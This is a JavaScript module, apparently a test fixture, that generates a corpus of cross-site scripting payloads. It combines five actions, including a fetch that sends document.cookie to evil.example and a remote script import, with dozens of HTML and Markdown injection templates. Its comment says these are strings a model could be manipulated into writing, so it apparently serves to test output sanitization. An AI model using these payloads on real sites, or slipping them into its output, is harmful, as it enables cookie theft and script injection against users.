// Attack strings that a model could be manipulated into writing. Each one calls `pwned` or sends a
// request if it works.

const ACTS = ["pwned(1)", "alert(1)", "fetch('https://evil.example/'+document.cookie)", "location='https://evil.example'", "import('https://evil.example/x.js')"];

const MARKUP = [
  (act) => `<script>${act}</script>`,
  (act) => `<ScRiPt>${act}</sCrIpT>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}"></svg>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<body onload="${act}">`,
  (act) => `<details open ontoggle="${act}">x</details>`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<a href="javascript:${act}">click</a>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="data:text/html,<script>${act}</script>">`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<form action="javascript:${act}"><button>go</button></form>`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<base href="https://evil.example/"><script src="x.js">${act}</script>`,
  (act) => `<link rel=stylesheet href="https://evil.example/x.css" onload="${act}">`,
  (act) => `<style>@import 'https://evil.example/${encodeURIComponent(act)}';</style>`,
  (act) => `<div style="background:url(https://evil.example/${encodeURIComponent(act)})">x</div>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'-${act}-'`,
  (act) => `</textarea></title></style><script>${act}</script>`,
  (act) => `<!--><script>${act}</script-->`,
  (act) => `<![CDATA[<script>${act}</script>]]>`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;img src=x onerror=${act}&#62;`,
  (act) => `\u0000<script\u0000>${act}</script>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<portal src="https://evil.example/${act}">`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}`,
];

const MARKDOWN = [
  (act) => `[click](javascript:${act})`,
  (act) => `[click](JaVaScRiPt:${act})`,
  (act) => `[click]( javascript:${act})`,
  (act) => `[click](java\tscript:${act})`,
  (act) => `[click](\u0001javascript:${act})`,
  (act) => `[click](data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString("base64")})`,
  (act) => `[click](vbscript:${act})`,
  (act) => `[click](blob:https://evil.example/${act})`,
  (act) => `[click](file:///etc/passwd#${act})`,
  (act) => `![picture](https://evil.example/${encodeURIComponent(act)}.png)`,
  (act) => `![x" onerror="${act}](x)`,
  (act) => `[a](https://good.example" onclick="${act})`,
  (act) => `[a](https://good.example@evil.example/${act})`,
  (act) => `<javascript:${act}>`,
  (act) => `[<img src=x onerror=${act}>](https://example.com)`,
  (act) => `**<b onmouseover=${act}>x</b>** and *<i onclick=${act}>y</i>*`,
  (act) => `\`</code><script>${act}</script>\``,
  (act) => `\`\`\`html\n</code></pre><script>${act}</script>\n\`\`\``,
  (act) => `\`\`\`"><img src=x onerror=${act}>\nx`,
  (act) => `- <img src=x onerror=${act}>\n  - [x](javascript:${act})`,
  (act) => `1. <svg/onload=${act}>\n2. \`x`,
  (act) => `# <script>${act}</script>`,
  (act) => `https://evil.example/"onmouseover="${act}`,
  (act) => `http://x'onclick='${act}`,
  (act) => `[x]: javascript:${act}\n\n[x]`,
  (act) => `[[x](javascript:${act})](https://example.com)`,
  (act) => `[${"[".repeat(300)}](javascript:${act})`,
  (act) => `${"*".repeat(300)}<script>${act}</script>${"*".repeat(300)}`,
];

const PLACES = [(text) => text, (text) => `so: ${text} and on`];

export const attacks = [];
for (const make of [...MARKUP, ...MARKDOWN]) {
  for (const act of ACTS) for (const place of PLACES) attacks.push(place(make(act)));
}
